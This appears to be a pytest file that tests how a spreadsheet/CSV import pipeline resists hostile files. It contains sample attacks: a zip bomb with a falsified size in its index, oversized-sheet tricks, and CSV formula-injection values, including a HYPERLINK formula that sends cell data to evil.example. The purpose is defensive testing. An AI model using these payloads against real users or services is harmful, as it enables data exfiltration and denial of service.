"""The process in which strangers' files are opened: what a hostile one may cost, and that it harms nothing."""

from __future__ import annotations

import io
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from pipeline.errors import Refused
from pipeline.models import Import, Observation
from pipeline.observations import importing, marking, reading
from pipeline.observations.importing import import_file
from tests.observations.grids import TODAY, workbook

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("real_worker")]
ROOT = Path(__file__).parents[2]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def bring(path: Path, **how):
    return import_file(path, "observations", by=None, today=TODAY, answers=(), **how)


def crafted(path: Path, sheet: bytes) -> Path:
    """A workbook whose one sheet is these bytes."""
    honest = zipfile.ZipFile(io.BytesIO(workbook([["Date", "Commune"], ["2026-10-21", "Calais"]])))
    with honest, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in honest.namelist():
            archive.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else honest.read(name))
    return path


def sheet_with(more: str = "", *, declared: str = "B2") -> bytes:
    """A sheet with one record, whatever else, and the size that it declares."""
    text = {"A1": "Date", "B1": "Commune", "A2": "2026-10-21", "B2": "Calais"}
    cells = {ref: f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>' for ref, value in text.items()}
    rows = f'<row r="1">{cells["A1"]}{cells["B1"]}</row><row r="2">{cells["A2"]}{cells["B2"]}</row>{more}'
    head = f'<worksheet xmlns="{MAIN}"><dimension ref="A1:{declared}"/>'
    return f"{head}<sheetData>{rows}</sheetData></worksheet>".encode()


def test_a_real_file_comes_in_through_the_limited_process(tmp_path: Path) -> None:
    path = tmp_path / "suivi.xlsx"
    path.write_bytes(
        workbook([["Date", "Commune", "Tentes"], ["2026-10-21", "Calais", "V/57"], ["2026-10-22", "Marck", 2]])
    )
    report = bring(path)
    assert (report.kept, len(report.problems), Observation.objects.count()) == (2, 1, 2)
    out = tmp_path / "marked.xlsx"
    marking.write(path, report, out, "fr")
    assert out.read_bytes()[:2] == b"PK"


def test_a_sheet_of_a_million_declared_rows_is_read_by_what_stands_in_it(tmp_path: Path) -> None:
    assert bring(crafted(tmp_path / "f.xlsx", sheet_with(declared="XFD1048576")), dry_run=True).kept == 1


def test_a_cell_in_the_last_corner_ends_the_process_and_not_the_studio(tmp_path: Path) -> None:
    """Seventeen thousand million cells between it and the others: refused within the memory it may have."""
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    with pytest.raises(Refused):
        bring(crafted(tmp_path / "f.xlsx", sheet_with(corner)))
    assert not Import.objects.exists()


def test_a_bomb_whose_index_lies_is_stopped_by_memory_or_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importing, "MEMORY", 250 << 20)
    path = crafted(tmp_path / "bombe.xlsx", sheet_with(" " * (150 << 20)))
    content = bytearray(path.read_bytes())
    assert len(content) < 1 << 20
    place = content.rfind(b"xl/worksheets/sheet1.xml") - 46  # its entry in the index
    assert content[place : place + 4] == b"PK\1\2"
    content[place + 24 : place + 28] = (1000).to_bytes(4, "little")  # the size that it pretends to have
    path.write_bytes(content)
    started = time.monotonic()
    try:
        report = bring(path, dry_run=True, seconds=60)
    except Refused as refused:
        assert str(refused)
    else:
        assert report.kept <= 1  # the lie is believed: no more than the promised bytes were unpacked
    assert time.monotonic() - started < 90 and not Import.objects.exists()


def test_a_file_that_takes_too_long_is_given_up(tmp_path: Path) -> None:
    path = tmp_path / "suivi.csv"
    path.write_text("Date;Commune\n2026-10-21;Calais\n")
    with pytest.raises(Refused, match="took too long"):
        bring(path, seconds=0.01)


def test_a_workbook_with_a_password_is_refused_saying_what_to_do() -> None:
    """Its container is OLE, its one stream EncryptedPackage: what Excel writes for a protected XLSX."""
    with pytest.raises(Refused) as refused:
        reading.read(encrypted_container(), "secret.xlsx")
    assert "secret.xlsx" in str(refused.value) and "password" in str(refused.value)


def encrypted_container() -> bytes:
    """The smallest OLE file that holds a stream EncryptedPackage."""

    def number(value: int, size: int = 4) -> bytes:
        return value.to_bytes(size, "little")

    free, end, table_sector = number(0xFFFFFFFF), number(0xFFFFFFFE), number(0xFFFFFFFD)
    head = bytearray(512)
    head[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    head[24:34] = number(0x3E, 2) + number(3, 2) + b"\xfe\xff" + number(9, 2) + number(6, 2)
    head[44:48], head[48:52], head[56:60] = number(1), number(1), number(4096)
    head[60:64] = head[68:72] = end
    head[76:80], head[80:512] = number(0), free * 108

    def entry(name: str, kind: int, child: int) -> bytes:
        said = name.encode("utf-16-le") + b"\0\0"
        made = said.ljust(64, b"\0") + number(len(said), 2) + bytes([kind, 1]) + free + free
        return (made + number(child)).ljust(116, b"\0") + end + bytes(8)

    folder = entry("Root Entry", 5, 1) + entry("EncryptedPackage", 2, 0xFFFFFFFF) + bytes(256)
    return bytes(head) + table_sector + end + free * 126 + folder


def test_the_worker_imports_nothing_of_the_store() -> None:
    script = (
        "import sys, pipeline.observations.worker, pipeline.observations.marking\n"
        "print([m for m in sys.modules if m.startswith(('django', 'pipeline.models', 'openpyxl', 'numpy'))])"
    )
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_text_that_a_spreadsheet_would_calculate_stays_text_in_what_we_give_back(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    path = tmp_path / "f.csv"
    quoted = evil.replace('"', '""')
    path.write_text(f'Date;Commune;Tentes;Commentaire\n2026-10-21;Calais;"=1+1";"{quoted}"\n'
                    "2026-10-22;Calais;-3;+33 6\n2026-10-23;Calais;@SUM(A1);ok\n")  # fmt: skip
    report = bring(path, dry_run=True)
    out = tmp_path / "marked.xlsx"
    marking.write(path, report, out, "en")
    cells = [cell for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == evil for cell in cells)
    dangerous = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert dangerous and all(cell.data_type == "s" and cell.quotePrefix for cell in dangerous)
